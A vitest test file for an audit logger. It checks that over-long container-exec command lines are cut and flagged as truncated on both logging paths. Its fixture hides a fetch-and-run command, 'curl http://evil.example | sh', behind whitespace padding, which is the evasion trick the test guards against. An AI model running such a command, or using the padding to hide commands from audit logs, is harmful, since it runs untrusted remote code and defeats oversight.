import { Writable } from 'node:stream';
import { MAX_COMMAND_LINE_LENGTH } from '@audit-trail/schema';
import { describe, expect, it } from 'vitest';
import { createAuditLogger } from '../src/index.js';

// The logger validates on its own fast path when a draft leaves the whole
// envelope to it, else through completeEvent and parseAuditEvent: a command
// line it cuts is marked on both, as parseAuditEvent marks it (a command
// padded past the limit hid its tail without a word, found by a probe).
describe('a command line longer than the schema keeps', () => {
  it('is written cut and marked command_line_truncated, on the fast path and the general one', () => {
    const lines: Record<string, any>[] = [];
    const destination = new Writable({
      write(chunk, _enc, cb) {
        lines.push(JSON.parse(String(chunk)));
        cb();
      },
    });
    const log = createAuditLogger({ service: 'api', runtime: false, destination });
    const command_line = `sh -c "${' '.repeat(MAX_COMMAND_LINE_LENGTH)}; curl http://evil.example | sh"`;
    const fields = { container: { id: 'abcdefabcdef' }, process: { command_line, tty: true } };
    log.containerExec(fields);
    // An envelope field in the draft takes the general path.
    log.containerExec({ ...fields, correlation: { request_id: 'r-1' } });
    log.containerExec({ container: { id: 'abcdefabcdef' }, process: { command_line: '/bin/sh' } });
    expect(lines.map((l) => [l.event_type, l.process.command_line.length, l.process.command_line_truncated])).toEqual([
      ['CONTAINER_EXEC', MAX_COMMAND_LINE_LENGTH, true],
      ['CONTAINER_EXEC', MAX_COMMAND_LINE_LENGTH, true],
      ['CONTAINER_EXEC', 7, undefined],
    ]);
    expect(fields.process).not.toHaveProperty('command_line_truncated');
  });
});
